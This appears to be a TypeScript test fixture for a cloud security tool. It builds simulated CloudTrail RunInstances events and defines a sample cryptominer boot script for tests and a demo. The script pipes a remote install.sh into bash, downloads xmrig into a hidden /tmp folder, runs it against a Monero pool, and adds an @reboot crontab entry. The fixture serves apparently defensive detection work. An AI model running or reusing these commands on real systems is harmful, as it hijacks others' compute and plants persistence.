import type { FakeTrailEvent } from './fake-aws';

/** What a stolen key's miner runs at boot: the user data the stories, tests and the demo show. */
export const MINER_SCRIPT_LINES = [
  '#!/bin/bash',
  'yum update -y',
  'mkdir -p /tmp/.x && cd /tmp/.x',
  'curl -s http://203.0.113.50/install.sh | bash',
  'wget -q http://203.0.113.50/xmrig -O /tmp/.x/xmrig',
  'chmod +x /tmp/.x/xmrig',
  'nohup /tmp/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ &',
  '(crontab -l; echo "@reboot /tmp/.x/xmrig") | crontab -',
];

/** A CloudTrail RunInstances event, as LookupEvents returns it, of instances launched by an IAM user's key. */
export function runInstancesEvent(
  instanceIds: string[],
  time: string,
  by: { accessKeyId: string; arn: string },
  opts: { sourceIp?: string; userAgent?: string; instanceType?: string } = {},
): FakeTrailEvent {
  return {
    name: 'RunInstances',
    time,
    resources: instanceIds,
    accessKeyId: by.accessKeyId,
    detail: {
      eventName: 'RunInstances',
      eventSource: 'ec2.amazonaws.com',
      eventTime: time,
      userIdentity: { type: 'IAMUser', arn: by.arn, accessKeyId: by.accessKeyId },
      sourceIPAddress: opts.sourceIp ?? '198.51.100.23',
      userAgent: opts.userAgent ?? 'aws-cli/2.13.0 Python/3.11 Linux/5.15',
      responseElements: { instancesSet: { items: instanceIds.map((instanceId) => ({ instanceId, ...(opts.instanceType ? { instanceType: opts.instanceType } : {}) })) } },
    },
  };
}
